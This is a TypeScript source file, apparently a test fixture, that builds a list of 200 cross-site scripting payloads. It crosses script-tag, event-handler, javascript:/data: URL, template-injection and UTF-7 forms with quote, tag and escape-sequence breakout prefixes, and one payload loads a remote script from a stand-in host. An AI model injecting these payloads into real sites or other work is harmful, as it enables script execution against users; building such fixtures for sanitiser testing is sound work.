/** Texts that run as a script where somebody shows them as anything but text. */

const CALL = 'alert(document.domain)'

const FORMS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=//x.example/a.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<iframe src="javascript:${CALL}">`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<a href="javascript:${CALL}">go</a>`,
  `<form action="javascript:${CALL}"><button>go</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<object data="data:text/html,<script>${CALL}</script>">`,
  `<math><mtext><style><img src=x onerror=${CALL}></style></mtext></math>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
]

/** What surrounds them, to break out of where they are shown. */
const BREAKOUTS = ['', '"', "'", '">', "'>", '`', '-->', ']]>', '</script>', '\u2028\u001b[2J\u202e']

/** 200 of them. */
export const SCRIPT_PAYLOADS: readonly string[] = BREAKOUTS.flatMap((breakout) =>
  FORMS.map((form) => breakout + form),
)
